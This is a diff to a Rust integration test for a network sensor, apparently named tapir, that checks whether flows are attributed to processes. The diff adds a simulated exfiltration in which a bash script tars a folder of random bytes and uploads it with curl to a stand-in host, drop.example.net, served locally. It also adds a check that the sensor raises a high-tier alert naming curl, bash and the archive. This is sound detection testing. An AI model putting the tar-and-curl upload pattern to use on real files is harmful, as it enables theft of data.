@@ -7,19 +7,22 @@
 #![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::panic)] // A test.
 #![allow(clippy::print_stdout, clippy::print_stderr)]
 
+mod namespaces;
+
+use namespaces::{Network, done, end, inside, ip, link, mirror, wait_until};
 use serde_json::Value;
 use std::collections::BTreeMap;
 use std::fs;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 const TAPIR: &str = env!("CARGO_BIN_EXE_tapir");
-const NEEDED: &[&str] = &["ip", "tc", "ethtool", "curl", "python3", "node"];
+const NEEDED: &[&str] = &[
+    "ip", "nsenter", "tc", "ethtool", "curl", "python3", "node", "openssl", "tar", "bash",
+];
 const HOST: &str = "tapir-attr-h";
 const SENSOR: &str = "tapir-attr-s";
-/// However busy the machine is, it is done by then.
-const PATIENCE: Duration = Duration::from_secs(60);
 /// Flows of one second and more that each program has, and of 50 ms.
 const LONG: usize = 40;
 const SHORT: usize = 60;
@@ -67,105 +70,75 @@ const call = left => left > 0 && http
 call(count);
 ";
 
-/// The namespaces while the test runs; they go when it ends, however it ends.
-#[derive(Default)]
-struct Network {
-    children: Vec<Child>,
-}
+/// Takes what is uploaded.
+const TAKER: &str = "
+import ssl, sys
+from http.server import BaseHTTPRequestHandler, HTTPServer
+class Taker(BaseHTTPRequestHandler):
+    def do_PUT(self):
+        left = int(self.headers['Content-Length'])
+        while left > 0:
+            left -= len(self.rfile.read(min(left, 65536)))
+        self.send_response(200)
+        self.send_header('Content-Length', '0')
+        self.end_headers()
+    def log_message(self, *_):
+        pass
+server = HTTPServer(('198.51.100.2', 443), Taker)
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.load_cert_chain(sys.argv[1])
+server.socket = context.wrap_socket(server.socket, server_side=True)
+server.serve_forever()
+";
 
-impl Drop for Network {
-    fn drop(&mut self) {
-        for child in &mut self.children {
-            let _ = child.kill();
-            let _ = child.wait();
-        }
-        remove_namespaces();
-    }
-}
+/// Packs what is in a folder and uploads it, with a certificate that the sensor can see.
+const SCRIPT: &str = "
+tar -cf \"$1/out.tar\" -C \"$1\" papers
+curl -sk --tls-max 1.2 --limit-rate 20M --expect100-timeout 0.1 --resolve drop.example.net:443:198.51.100.2 \\
+  -T \"$1/out.tar\" https://drop.example.net/
+true
+";
+/// What is packed.
+const PAPERS_BYTES: usize = 60 << 20;
 
-fn remove_namespaces() {
+/// Two hosts, a mirror port at the second, and somewhere outside.
+fn set_up(network: &mut Network, folder: &Path) {
+    link([(HOST, "c0", "10.98.0.1/24"), (SENSOR, "s0", "10.98.0.2/24")]);
     for space in [HOST, SENSOR] {
-        let mut ip = Command::new("ip");
-        let _ = ip.args(["netns", "del", space]).output();
-    }
-}
-
-/// What is missing for this test, if anything.
-fn missing() -> Option<String> {
-    let has = |tool: &str| {
-        let which = Command::new("sh")
-            .args(["-c", &format!("command -v {tool}")])
-            .output();
-        which.is_ok_and(|out| out.status.success())
-    };
-    if let Some(tool) = NEEDED.iter().find(|tool| !has(tool)) {
-        return Some(format!("{tool} is not installed"));
-    }
-    remove_namespaces();
-    match Command::new("ip").args(["netns", "add", HOST]).output() {
-        Ok(out) if out.status.success() => None,
-        Ok(out) => Some(String::from_utf8_lossy(&out.stderr).trim().to_string()),
-        Err(error) => Some(error.to_string()),
-    }
-}
-
-/// A command within a namespace; its process is that of the command itself.
-fn inside(space: &str, words: &[&str]) -> Command {
-    let mut command = Command::new("ip");
-    command.args(["netns", "exec", space]).args(words);
-    command.stdin(Stdio::null());
-    command
-}
-
-fn done(mut command: Command) {
-    let status = command.status().expect("the command starts");
-    assert!(status.success(), "{command:?}: {status}");
-}
-
-/// Two hosts, and a mirror port at the second.
-fn set_up() -> Network {
-    let mut network = Network::default();
-    let ip = |line: &str| {
-        let mut command = Command::new("ip");
-        command.args(line.split(' '));
-        done(command);
-    };
-    let tc = |line: &str| {
-        let words: Vec<&str> = std::iter::once("tc").chain(line.split(' ')).collect();
-        done(inside(SENSOR, &words));
-    };
-    ip(&format!("netns add {SENSOR}"));
-    ip(&format!(
-        "link add c0 netns {HOST} type veth peer name s0 netns {SENSOR}"
-    ));
-    for (space, link, address) in [(HOST, "c0", "10.98.0.1/24"), (SENSOR, "s0", "10.98.0.2/24")] {
-        let offload = "tx off tso off gso off gro off";
-        let words = ["ethtool", "-K", link]
-            .into_iter()
-            .chain(offload.split(' '));
-        let mut ethtool = inside(space, &words.collect::<Vec<_>>());
-        ethtool.stdout(Stdio::null());
-        done(ethtool);
-        ip(&format!("-n {space} addr add {address} dev {link}"));
-        ip(&format!("-n {space} link set {link} up"));
         ip(&format!("-n {space} link set lo up"));
     }
-    ip(&format!("-n {SENSOR} link add m0 type veth peer name m1"));
-    for link in ["m0", "m1"] {
-        ip(&format!("-n {SENSOR} link set {link} up"));
+    ip(&format!("-n {SENSOR} addr add 198.51.100.2/24 dev s0"));
+    ip(&format!("-n {HOST} route add default via 10.98.0.2"));
+    mirror(SENSOR, "s0");
+    let path = |name: &str| folder.join(name).to_str().unwrap().to_owned();
+    let (key, certificate) = (path("drop.key"), path("drop.pem"));
+    let request = "req -x509 -newkey rsa:2048 -nodes -days 3000 -subj /CN=other.example";
+    let mut openssl = Command::new("openssl");
+    openssl.args(request.split(' ')).stderr(Stdio::null());
+    openssl.args(["-keyout", &key, "-out", &certificate]);
+    done(openssl);
+    let both = fs::read_to_string(&certificate).unwrap() + &fs::read_to_string(&key).unwrap();
+    fs::write(&certificate, both).unwrap();
+    for words in [
+        &["python3", "-c", SERVER][..],
+        &["python3", "-c", TAKER, &certificate],
+    ] {
+        let server = inside(SENSOR, words).spawn().unwrap();
+        network.children.push(server);
     }
-    tc("qdisc add dev s0 clsact");
-    for way in ["ingress", "egress"] {
-        let every_frame = "protocol all u32 match u32 0 0 action mirred egress mirror dev m0";
-        tc(&format!("filter add dev s0 {way} {every_frame}"));
-    }
-    let server = inside(SENSOR, &["python3", "-c", SERVER]).spawn().unwrap();
-    network.children.push(server);
-    network
+    // As the kernel writes 10.98.0.2:8080 and 198.51.100.2:443.
+    let listen = || {
+        let out = inside(SENSOR, &["cat", "/proc/net/tcp"]).output().unwrap();
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        ["0200620A:1F90", "026433C6:01BB"]
+            .iter()
+            .all(|end| text.contains(end))
+    };
+    wait_until("both servers", listen);
 }
 
 /// Sensor and agent, that have found each other.
-fn watch(folder: &Path, network: &mut Network) -> [Child; 2] {
+fn watch(network: &mut Network, folder: &Path) {
     let path = |name: &str| folder.join(name).to_str().unwrap().to_owned();
     let config = format!(
         "[intake]\nlisten = \"10.98.0.2:8443\"\nnames = [\"10.98.0.2\"]\ndir = \"{}\"\n",
@@ -191,11 +164,14 @@ fn watch(folder: &Path, network: &mut Network) -> [Child; 2] {
         &logs,
     ];
     let sensor = inside(SENSOR, &run).stdout(Stdio::null()).spawn().unwrap();
-    let (identity, spool) = (path("host1.pem"), path("spool"));
+    let (identity, spool, watched) = (path("host1.pem"), path("spool"), path("home"));
+    fs::create_dir_all(folder.join("home/papers")).unwrap();
     let sensor_at = "https://10.98.0.2:8443";
     let agent = [
         TAPIR,
         "agent",
+        "--watch",
+        &watched,
         "--sensor",
         sensor_at,
         "--identity",
@@ -210,17 +186,6 @@ fn watch(folder: &Path, network: &mut Network) -> [Child; 2] {
     let journal = folder.join("intake/journal");
     let has_heard = || fs::read_dir(&journal).is_ok_and(|mut files| files.next().is_some());
     wait_until("the sensor hears the agent", has_heard);
-    let agent = network.children.pop().unwrap();
-    let sensor = network.children.pop().unwrap();
-    [sensor, agent]
-}
-
-fn wait_until(what: &str, ready: impl Fn() -> bool) {
-    let began = Instant::now();
-    while !ready() {
-        assert!(began.elapsed() < PATIENCE, "not in time: {what}");
-        std::thread::sleep(Duration::from_millis(50));
-    }
 }
 
 /// Whose each flow is, by its local port, and whether it lasts a second.
@@ -288,11 +253,47 @@ fn call_all() -> Truth {
     truth
 }
 
-fn end(child: Child, what: &str) {
-    let pid = child.id().to_string();
-    assert!(Command::new("kill").arg(&pid).status().unwrap().success());
-    let out = child.wait_with_output().unwrap();
-    assert!(out.status.success(), "{what}: {}", out.status);
+/// A script packs and uploads.
+fn exfiltrate(folder: &Path) {
+    let home = folder.join("home");
+    // Nothing that a compression would shrink, and the same every time.
+    let byte = |n: u64| (n.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 56) as u8;
+    let noise: Vec<u8> = (0..PAPERS_BYTES as u64).map(byte).collect();
+    fs::write(home.join("papers/all"), noise).unwrap();
+    std::thread::sleep(Duration::from_secs(1));
+    let home = home.to_str().unwrap();
+    done(inside(HOST, &["bash", "-c", SCRIPT, "script", home]));
+}
+
+/// The alert names who uploaded, its parent and the archive.
+fn check_upload(folder: &Path) {
+    let alerts = rows(folder.join("logs/alerts.log"));
+    let uploads = alerts.iter().filter(|alert| alert["analytic"] == "AN1415");
+    let alert = uploads.last().expect("an alert on the upload");
+    let process = &alert["subject"]["process"];
+    assert_eq!(
+        process["path"].as_str().map(file_name),
+        Some("curl"),
+        "{alert}"
+    );
+    let parent = process["parent"]["path"].as_str();
+    assert_eq!(parent.map(file_name), Some("bash"), "{alert}");
+    let evidence = alert["evidence"].as_array().unwrap();
+    let of = |id: &str| evidence.iter().find(|item| item["id"] == id);
+    for id in [
+        "endpoint.archive",
+        "endpoint.archive_size",
+        "endpoint.archive_kin",
+    ] {
+        assert!(of(id).is_some(), "{id} in {alert}");
+    }
+    let archive = &of("endpoint.archive").unwrap()["observed"];
+    assert_eq!(archive["path"].as_str().map(file_name), Some("out.tar"));
+    assert_eq!(alert["tier"], "high");
+}
+
+fn file_name(path: &str) -> &str {
+    path.rsplit('/').next().unwrap()
 }
 
 fn rows(path: PathBuf) -> Vec<Value> {
@@ -303,18 +304,21 @@ fn rows(path: PathBuf) -> Vec<Value> {
 
 #[test]
 fn flows_of_real_programs_are_attributed_to_the_process_that_has_them() {
-    if let Some(what) = missing() {
-        println!("skipped: {what}");
-        return;
-    }
     let folder = tempfile::tempdir().unwrap();
-    let mut network = set_up();
-    let [sensor, agent] = watch(folder.path(), &mut network);
+    let mut network = match Network::new(&[HOST, SENSOR], NEEDED) {
+        Ok(network) => network,
+        Err(what) => return println!("skipped: {what}"),
+    };
+    set_up(&mut network, folder.path());
+    watch(&mut network, folder.path());
     let truth = call_all();
-    end(agent, "tapir agent");
+    exfiltrate(folder.path());
+    // The upload's flow is over, and what the agent says of it is there.
+    std::thread::sleep(Duration::from_secs(8));
+    end(network.children.pop().unwrap(), "tapir agent");
     // What the agent delivered last counts a second after it came in.
     std::thread::sleep(Duration::from_secs(2));
-    end(sensor, "tapir run");
+    end(network.children.pop().unwrap(), "tapir run");
 
     let mut seen = BTreeMap::new();
     for row in rows(folder.path().join("logs/attribution.log")) {
@@ -353,4 +357,5 @@ fn flows_of_real_programs_are_attributed_to_the_process_that_has_them() {
         right[1],
         all[1]
     );
+    check_upload(folder.path());
 }
